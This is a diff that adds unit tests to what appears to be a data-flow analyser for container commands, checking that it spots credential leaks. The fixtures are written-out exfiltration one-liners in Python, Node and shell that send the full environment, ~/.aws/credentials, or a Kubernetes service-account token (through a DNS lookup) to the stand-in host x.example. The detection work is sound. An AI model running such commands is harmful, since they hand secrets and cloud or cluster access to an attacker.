@@ -511,3 +511,58 @@ describe('a downloaded file loaded as code by an interpreter ran from where it w
     expect(e?.flows).toEqual([]);
   });
 });
+
+describe('credentials leave in more spellings', () => {
+  const code = (interpreter: string, flag: string, text: string): Execution => {
+    const [e] = run([{ name: 'c', image: 'alpine', command: [interpreter, flag, text] }]);
+    if (e === undefined) throw new Error('no container');
+    return e;
+  };
+
+  it('the whole environment serialized by an interpreter is a secret source; one variable is not', () => {
+    expect(
+      sources(
+        code(
+          'python3',
+          '-c',
+          'import os,json,requests\nrequests.post("https://x.example/e", data=json.dumps(dict(os.environ)))',
+        ),
+        'send',
+      ),
+    ).toContain('secret');
+    expect(
+      sources(
+        code('node', '-e', 'fetch("https://x.example/e",{method:"POST",body:JSON.stringify(process.env)})'),
+        'send',
+      ),
+    ).toContain('secret');
+    expect(
+      sources(
+        code(
+          'python3',
+          '-c',
+          'import os,requests\nrequests.post("https://x.example/e", data=os.environ["REGION"])',
+        ),
+        'send',
+      ),
+    ).not.toContain('secret');
+  });
+
+  it('a home-relative credential path is root’s home, in the shell and in code', () => {
+    expect(
+      sources(
+        code(
+          'python3',
+          '-c',
+          'import os,requests\nrequests.post("https://x.example/", data=open(os.path.expanduser("~/.aws/credentials")).read())',
+        ),
+        'send',
+      ),
+    ).toContain('cloud-credentials');
+  });
+
+  it('a substring of the token in a looked-up name is the token sent', () => {
+    const e = sh('T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); host ${T:0:60}.x.example');
+    expect(sources(e, 'send')).toContain('service-account-token');
+  });
+});
